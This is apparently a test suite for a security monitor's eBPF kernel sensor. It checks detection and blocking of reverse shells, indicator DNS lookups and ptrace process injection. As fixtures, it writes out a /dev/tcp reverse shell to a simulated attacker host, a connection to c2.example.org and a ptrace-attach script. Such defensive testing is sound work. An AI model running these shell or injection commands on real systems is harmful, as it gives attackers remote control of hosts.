// The kernel sensor's life in a host: it watches, obeys the policy, is started again, guards on without the daemon, and
// leaves with it. What it stops is in hard_attacks.test.ts.
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { z } from "zod";
import { answers } from "./attacks.ts";
import { alerts, configure, copyRelease, lastWords, mustInstall, showAlert, waitUntil } from "./product.ts";
import { bootHost, type Host } from "./testhost.ts";

setDefaultTimeout(120_000);
const BPFFS = "/run/algo-monitor/bpf";
const sensorSchema = z.looseObject({
  sensor: z.looseObject({
    state: z.string(),
    pid: z.number().optional(),
    restarts: z.number(),
    hooks: z.array(z.looseObject({ name: z.string(), answer: z.string() })),
    beat: z.looseObject({ lost: z.array(z.number()), processes: z.number() }).optional(),
    canary: z.looseObject({ seen: z.number(), missed: z.number() }),
  }),
  kernel: z.looseObject({ blindWindows: z.array(z.looseObject({ fromMs: z.number() })) }),
});

/** Answers every question for an A record with its argument. */
const RESOLVER = `import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 53))
while True:
    q, who = s.recvfrom(512)
    end = q.index(b"\\0", 12) + 5
    isA = q[end-4:end-2] == b"\\0\\1"
    answer = b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x3c\\0\\4" + socket.inet_aton(sys.argv[1]) if isA else b""
    s.sendto(q[:2] + b"\\x81\\x80\\0\\1" + (b"\\0\\1" if isA else b"\\0\\0") + b"\\0\\0\\0\\0" + q[12:end] + answer, who)
`;

/** Attaches to a process that was there before, and is gone. */
const REACH = `import ctypes, subprocess
target = subprocess.Popen(["setsid", "sleep", "5"])
libc = ctypes.CDLL(None)
libc.ptrace(0x4206, target.pid, 0, 0)
`;

describe("the kernel sensor", () => {
  let host: Host;
  let port = 4100;
  beforeAll(async () => {
    host = await bootHost();
    await copyRelease(host);
    await mustInstall(host);
    await watching();
  });
  afterAll(async () => {
    if (host !== undefined) await host.stop();
  });

  async function sensor(): Promise<z.infer<typeof sensorSchema>> {
    return sensorSchema.parse(JSON.parse(await host.must("algo-monitor status --json")));
  }

  async function watching(): Promise<void> {
    const isWatching = async (): Promise<boolean> => {
      const { state, beat } = (await sensor()).sensor;
      return state === "kernel" && beat !== undefined;
    };
    await waitUntil("the sensor watches", isWatching, 20_000);
  }

  async function named(rule: string): Promise<string | undefined> {
    return (await alerts(host)).find((alert) => alert.rule.name === rule)?.title;
  }

  /** Connections on record that were meant for this name. */
  async function eventsNamed(name: string): Promise<number> {
    const question = `SELECT count(*) FROM events WHERE action = 'connection-opened' AND json LIKE '%"destination.domain":"${name}"%'`;
    return Number(
      await host.must(`sqlite3 -readonly /opt/.monitor/algo-monitor.db "${question.replaceAll('"', '\\"')}"`),
    );
  }

  /** A shell on a connection. Whether the remote side gets the output of a command. */
  async function isObeyed(): Promise<boolean> {
    const at = port++;
    host.attacker.order({ do: "listen", port: at, transport: "tcp" });
    const connect = `sh <>/dev/tcp/${host.attacker.address}/${at} >&0 2>&1`;
    await host.start(`shell-${at}`, `exec bash -c '${connect}'`);
    await Bun.sleep(1_000);
    const obeyed = host.attacker.conversation(at).connected && (await answers(host, at, "first", false));
    await host.stopUnit(`shell-${at}`);
    return obeyed;
  }

  async function newestKill(): Promise<string> {
    const found = (await alerts(host)).find((alert) => alert.rule.name === "reverse_shell");
    return found === undefined ? "no alert" : showAlert(host, found.id);
  }

  test("hears names that are looked up, by whom, and which connection was meant for them", async () => {
    await host.writeFile("/opt/resolver.py", RESOLVER);
    await host.writeFile("/opt/bad-names.txt", "c2.example.org\n");
    await host.start("resolver", `exec python3 /opt/resolver.py ${host.attacker.address}`);
    await host.must("cp --remove-destination /dev/null /etc/resolv.conf; echo nameserver 127.0.0.1 >/etc/resolv.conf");
    await configure(host, { INDICATORS: { files: ["/opt/bad-names.txt"] }, SUSPICIOUS_NETWORK_PATTERNS: ["^c2\\."] });
    host.attacker.order({ do: "banner", port: 3307, banner: "220 ready" });
    await Bun.sleep(1_500); // the list is read
    await host.start(
      "asks",
      "exec bash -c 'exec 3<>/dev/tcp/c2.example.org/3307; read -r line <&3; exec sleep 30 3>&1'",
    );
    await waitUntil("it is told", async () => (await named("indicator_looked_up")) !== undefined, 15_000);
    expect(await named("indicator_looked_up")).toMatch(
      /bash of root looked up c2.example.org, which .*bad-names.txt line 1 names/,
    );
    await waitUntil(
      "the connection is known by its name",
      async () => (await eventsNamed("c2.example.org")) > 0,
      15_000,
    );
    await host.stopUnit("asks");
    await host.stopUnit("resolver");
  });

  test("DEEP_SYSCALLS: who reaches into another process for a millisecond is told, without it is not", async () => {
    await host.writeFile("/opt/reach.py", REACH);
    const reach = () => host.must("systemd-run --quiet --wait python3 /opt/reach.py");
    await reach();
    await configure(host, { DEEP_SYSCALLS: true });
    await Bun.sleep(1_500); // no sweep is needed, but the order has to arrive
    await reach();
    await waitUntil("it is told", async () => (await named("process_injected")) !== undefined, 15_000);
    const told = (await alerts(host)).filter(({ rule }) => rule.name === "process_injected");
    expect(told.map(({ count }) => count)).toEqual([1]);
    await configure(host, { DEEP_SYSCALLS: false });
  });

  test("stands on every hook that this kernel has, and sees its own canary", async () => {
    const missing = (await sensor()).sensor.hooks.filter(({ answer }) => answer !== "ok").map(({ name }) => name);
    // These machines load no modules.
    expect(missing.filter((name) => name !== "on_module")).toEqual([]);
    await waitUntil("the canary is seen", async () => (await sensor()).sensor.canary.seen > 0, 20_000);
    const { canary, beat } = (await sensor()).sensor;
    expect(canary.missed).toBe(0);
    expect(beat?.lost).toEqual([0, 0, 0, 0]);
    expect((await host.must("algo-monitor doctor")).split("\n").find((line) => /kernel sensor/.test(line))).toMatch(
      /^ok/,
    );
  });

  test("stops a shell before its first instruction, and the alert says how", async () => {
    expect(await isObeyed(), await lastWords(host)).toBe(false);
    await waitUntil("the alert", async () => /stopped by/i.test(await newestKill()), 10_000);
    expect(await newestKill()).toMatch(/stopped by\s+kernel at exec/i);
  });

  test("a change of the configuration reaches the kernel: monitor, an exception, enforce again", async () => {
    await configure(host, { MODE: "monitor" });
    expect(await isObeyed(), "monitor touches nothing").toBe(true);
    await configure(host, {
      MODE: "enforce",
      EXCEPTIONS: [{ rule: "reverse_shell", peer: host.attacker.address, reason: "the console of the test" }],
    });
    expect(await isObeyed(), "an exception is obeyed in the kernel").toBe(true);
    await configure(host, { EXCEPTIONS: [] });
    expect(await isObeyed()).toBe(false);
  });

  test("killed or stopped, it comes back, and the time without it is on record", async () => {
    for (const signal of ["KILL", "STOP"]) {
      const before = (await sensor()).sensor;
      await host.must(`kill -${signal} ${before.pid}`);
      const isBack = async (): Promise<boolean> => {
        const { pid, state, restarts } = (await sensor()).sensor;
        return state === "kernel" && pid !== before.pid && restarts > before.restarts;
      };
      await waitUntil(`it is back after SIG${signal}`, isBack, 20_000);
      await watching();
    }
    expect((await sensor()).kernel.blindWindows.length).toBeGreaterThanOrEqual(2);
    expect(await isObeyed()).toBe(false);
  });

  test("GUARD_ON: without the daemon it goes on, and the next daemon tells what was stopped", async () => {
    await configure(host, { GUARD_ON: true });
    await waitUntil("programs are pinned", async () => (await host.exec(`ls ${BPFFS}/*/links`)).exitCode === 0, 10_000);
    await host.must("systemctl stop algo-monitor");
    expect((await host.exec("pgrep -x algo-sensor")).exitCode).toBe(1);
    const at = port;
    expect(await isObeyed(), "nobody runs, the kernel guards").toBe(false);
    await host.must("systemctl start algo-monitor");
    await watching();
    const told = async (): Promise<boolean> => (await alerts(host)).some(({ title }) => title.includes(`:${at} `));
    await waitUntil("what was stopped meanwhile is told", told, 15_000);
    await configure(host, { GUARD_ON: false });
    await waitUntil("the pins are gone", async () => (await host.exec(`test -e ${BPFFS}`)).exitCode !== 0, 10_000);
  });

  test("switched off, it leaves the kernel; the scans guard on", async () => {
    await configure(host, { "SENSOR.enabled": false });
    await waitUntil("it has ended", async () => (await host.exec("pgrep -x algo-sensor")).exitCode === 1, 10_000);
    expect((await sensor()).sensor.state).toBe("off");
    await configure(host, { "SENSOR.enabled": true });
    await watching();
  });

  test("uninstall leaves no program in the kernel, also with GUARD_ON", async () => {
    await configure(host, { GUARD_ON: true });
    await waitUntil("programs are pinned", async () => (await host.exec(`ls ${BPFFS}/*/links`)).exitCode === 0, 10_000);
    await host.must("/opt/.monitor/uninstall --yes");
    expect((await host.exec("grep -c ' bpf ' /proc/self/mounts; ls -d /run/algo-monitor")).stdout.trim()).toBe("0");
    expect(await isObeyed(), "and so nothing is stopped any more").toBe(true);
  });
});
